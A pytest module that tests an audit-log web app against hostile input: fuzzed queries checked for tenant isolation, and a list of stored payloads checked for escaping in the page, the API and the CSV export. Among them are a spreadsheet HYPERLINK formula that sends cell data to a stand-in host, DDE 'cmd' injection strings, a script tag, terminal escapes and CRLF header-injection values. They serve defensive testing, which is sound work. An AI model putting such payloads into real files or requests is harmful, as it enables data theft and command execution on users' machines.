"""Hostile input: no query string gives a 500, and nobody reads another tenant's events.

Generated query strings go to the page and the JSON API as every kind of visitor; each
answer is checked against an oracle (:mod:`tests.hostile_fixtures`): the right status, a
message with every 400, and exactly the caller's tenant's rows inside the window that
match the filters. Nasty stored values (formulas, terminal escapes, NUL, lone surrogates,
100 KB) are read back through the page, the API and the CSV export.
"""

from __future__ import annotations

import datetime as dt
import json
import pathlib
import typing as t

import hypothesis.strategies as st
import pytest
from hypothesis import event
from hypothesis import given
from hypothesis import HealthCheck
from hypothesis import settings
from markupsafe import escape

from .apps import add_user
from .conftest import audit_of
from .conftest import MakeApp
from .conftest import stored
from .export_fixtures import read_csv
from .hostile_fixtures import args_of
from .hostile_fixtures import expect_api
from .hostile_fixtures import expect_page
from .hostile_fixtures import queries
from .hostile_fixtures import seed
from .hostile_fixtures import TENANT_LOADER
from .views_fixtures import activities
from .views_fixtures import build_site
from .views_fixtures import PREFIX
from .views_fixtures import Site

API = f"{PREFIX}/api/events"
#: SQLite carries the bulk; the servers get a shorter run of the same property.
EXAMPLES = {"sqlite": 1000, "postgresql": 100, "mariadb": 100}
WHO = ("admin", "admin", "admin", "other_admin", "member", None)
REFUSED = {
    None: (401, "Sign in as an administrator to read the audit log."),
    "member": (403, "Only audit admins may view this page (AUDIT_IS_ADMIN / AUDIT_ADMIN_ROLE)."),
}
TENANT: dict[str | None, str] = {"admin": "acme", "other_admin": "globex"}


def _settings(backend: str) -> settings:
    return settings(
        max_examples=EXAMPLES[backend],
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
        database=None,
        # The same examples on every run, so CI is repeatable; explore more with
        # ``--hypothesis-seed`` (or by removing this) while hunting.
        derandomize=True,
    )


def _site(make_app: MakeApp) -> tuple[Site, list[t.Any]]:
    site = build_site(make_app, AUDIT_TENANT_LOADER=TENANT_LOADER)
    return site, seed(site, dt.datetime.now(dt.timezone.utc))


@pytest.mark.backends("sqlite", "postgresql", "mariadb")
def test_the_api_answers_any_query_with_the_callers_rows_or_a_400(make_app: MakeApp, backend: str) -> None:
    site, rows = _site(make_app)
    clients = {who: site.client(None if who is None else getattr(site, who)) for who in set(WHO)}
    by_id = {row.id: row for row in rows}

    @_settings(backend)
    @given(qs=queries(rows), who=st.sampled_from(WHO))
    def check(qs: str, who: str | None) -> None:
        response = clients[who].get(API, query_string=qs)
        assert response.mimetype == "application/json"
        body = t.cast(dict[str, t.Any], response.get_json())
        event(f"{response.status_code}, rows: {bool(body.get('events'))}")
        if who in REFUSED:
            assert (response.status_code, body) == (REFUSED[who][0], {"error": REFUSED[who][1]})
            return
        expected = expect_api(args_of(qs), rows, TENANT[who])
        if expected.error is not None:
            assert (response.status_code, body) == (400, {"error": expected.error})
            return
        assert response.status_code == 200, body
        got = [by_id[event["id"]] for event in body["events"]]
        assert all(event["tenant_id"] == TENANT[who] for event in body["events"])
        if expected.complete:
            assert [row.id for row in got] == [row.id for row in expected.rows]
        else:
            assert {row.id for row in got} <= {row.id for row in expected.rows}

    check()


@pytest.mark.backends("sqlite", "postgresql", "mariadb")
def test_the_page_answers_any_query_with_the_callers_rows_or_a_400(make_app: MakeApp, backend: str) -> None:
    site, rows = _site(make_app)
    by_activity = {row.activity: row for row in rows}

    @_settings(backend)
    @given(qs=queries(rows), who=st.sampled_from(WHO))
    def check(qs: str, who: str | None) -> None:
        # A fresh client each time: ``tz`` sets a cookie that would carry into the next query.
        client = site.client(None if who is None else getattr(site, who))
        response = client.get(f"{PREFIX}/", query_string=qs, follow_redirects=True)
        html = response.get_data(as_text=True)
        event(f"{response.status_code}, rows: {bool(activities(html))}")
        if who in REFUSED:
            assert response.status_code == REFUSED[who][0]
            assert "#" not in "".join(activities(html))
            return
        expected = expect_page(args_of(qs), rows, TENANT[who])
        if expected.error is not None:
            assert response.status_code == 400
            assert str(escape(expected.error)) in html
            assert activities(html) == []
            return
        assert response.status_code == 200
        got = [by_activity[text] for text in activities(html)]
        if expected.complete:
            assert [row.id for row in got] == [row.id for row in expected.rows]
        else:
            assert {row.id for row in got} <= {row.id for row in expected.rows}

    check()


@pytest.mark.parametrize("tenant", ["ACME", "acme ", "ácme"])
def test_tenants_that_differ_in_case_accents_or_spaces_stay_apart(
    make_app: MakeApp, backend: str, tenant: str, request: pytest.FixtureRequest
) -> None:
    """Tenant ids are opaque strings: the scope compares them exactly on every backend."""
    site = build_site(make_app, AUDIT_TENANT_LOADER=TENANT_LOADER)
    look_alike = add_user(site.app, "admin@look-alike.test", is_admin=True, tenant=tenant)
    site.insert(site.event(tenant_id="acme", activity="acme only"))
    client = site.client(look_alike)
    assert t.cast(dict[str, t.Any], client.get(API).get_json())["events"] == []
    assert activities(client.get(f"{PREFIX}/").get_data(as_text=True)) == []


# -- nasty stored values -------------------------------------------------------------

NASTY = [
    '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "line one\nFAKE 2026-01-01 admin logged in\r\nthird",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J",
    "<script>alert('x')</script>",
    "\"quoted\", 'single', back\\slash",
    "nul\x00inside",
    "\x00leading nul",
    "lone \ud800 surrogate \udfff",
    "emoji 🚀 and 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 and RTL \u202eevil",
    "x" * 100_000,
    "=" + "y" * 100_000,
    "plain value",
]


def _cleaned(value: str, limit: int) -> str:
    """The documented cleaning: NUL becomes U+FFFD, invalid UTF-8 '?', then cut with '…'."""
    text = value.replace("\x00", "\ufffd").encode("utf-8", "replace").decode("utf-8")
    return text if len(text) <= limit else text[: limit - 1] + "…"


def _neutralised(value: str) -> str:
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") else value


def test_nasty_values_are_read_back_escaped_intact_and_neutralised(
    make_app: MakeApp, tmp_path: pathlib.Path
) -> None:
    site = build_site(make_app, AUDIT_TENANT_LOADER=TENANT_LOADER)
    audit = audit_of(site.app)
    with site.app.app_context():
        for n, value in enumerate(NASTY):
            audit.record(
                "team.updated", activity=value, team=value, actor_email=value, tenant_id="acme", actor=None
            )
            audit.record("team.updated", activity=f"globex {n}", tenant_id="globex", actor=None)
    expected = [
        {"activity": _cleaned(v, 1000), "team": _cleaned(v, 255), "actor_email": _cleaned(v, 320)}
        for v in NASTY
    ]

    api = site.client(site.admin).get(API, query_string={"limit": "500"})
    events = json.loads(api.get_data(as_text=True))["events"]
    got = [{key: event[key] for key in ("activity", "team", "actor_email")} for event in reversed(events)]
    assert got == expected

    html = site.client(site.admin).get(f"{PREFIX}/").get_data(as_text=True)
    assert "<script>alert" not in html
    assert list(reversed(activities(html))) == [str(escape(value["activity"])) for value in expected]
    for cleaned in expected:
        assert str(escape(cleaned["actor_email"])) in html and str(escape(cleaned["team"])) in html
    assert "globex" not in html

    out = tmp_path / "export.csv"
    result = site.app.test_cli_runner().invoke(
        args=["audit", "export", "--out", str(out), "--tenant", "acme"]
    )
    assert result.exit_code == 0, result.output
    header, *lines = read_csv(out.read_bytes())
    cells = [{"activity": line[3], "team": line[1], "actor_email": line[5]} for line in reversed(lines)]
    assert cells == [{key: _neutralised(text) for key, text in value.items()} for value in expected]
    assert header[1::2] == ["Team", "Activity", "Actor", "Event type", "User agent"]
    assert len(stored(site.app)) == 2 * len(NASTY) + 1  # and the export's own event


# -- forged X-Forwarded-For ----------------------------------------------------------

REMOTE = "10.0.0.2"
FORGED = [
    ("1.2.3.4\r\nX-Injected: yes", REMOTE),
    ("6.6.6.6\n198.51.100.20", REMOTE),
    ("6.6.6.6, 198.51.100.20\n", "198.51.100.20"),
    (",, ,", REMOTE),
    ("[2001:db8::1]", "2001:db8::1"),
    ("6.6.6.6, [2001:db8::1]:443", REMOTE),
    ("6.6.6.6, 1.2.3.4:5678", REMOTE),
    ("unknown", REMOTE),
    ("1.2.3.4 5.6.7.8", REMOTE),
    ("01.02.03.04", REMOTE),
    ("0x7f.1", REMOTE),
    ("9" * 5000, REMOTE),
    ("\x00", REMOTE),
    ("1.2.3.4\x00", REMOTE),
    ("\x1b[31m1.2.3.4", REMOTE),
    ("::ffff:198.51.100.20", "::ffff:c633:6414"),
]


@pytest.mark.backends("sqlite")
@pytest.mark.parametrize("proxies", [0, 1])
@pytest.mark.parametrize(("header", "ip"), FORGED)
def test_forged_forwarded_for_is_an_address_or_ignored(
    make_app: MakeApp, proxies: int, header: str, ip: str
) -> None:
    """Raw header bytes as a WSGI server passes them: a port, a second line or junk never
    becomes the address; without trusted proxies the header is never read at all."""
    app = make_app(AUDIT_TRUSTED_PROXIES=proxies)
    environ = {"REMOTE_ADDR": REMOTE, "HTTP_X_FORWARDED_FOR": header}
    assert app.test_client().post("/record/team.updated", environ_base=environ).status_code == 200
    assert stored(app)[-1].ip == (ip if proxies else REMOTE)


@pytest.mark.backends("sqlite")
def test_an_ipv6_zone_id_cannot_smuggle_text_into_the_ip(make_app: MakeApp) -> None:
    """With one proxy more configured than the chain has, the client writes the used entry:
    it may pick any address then, but never text."""
    app = make_app(AUDIT_TRUSTED_PROXIES=2)
    environ = {"REMOTE_ADDR": REMOTE, "HTTP_X_FORWARDED_FOR": "fe80::1%<script>\n, 10.0.0.9"}
    assert app.test_client().post("/record/team.updated", environ_base=environ).status_code == 200
    assert stored(app)[-1].ip == REMOTE
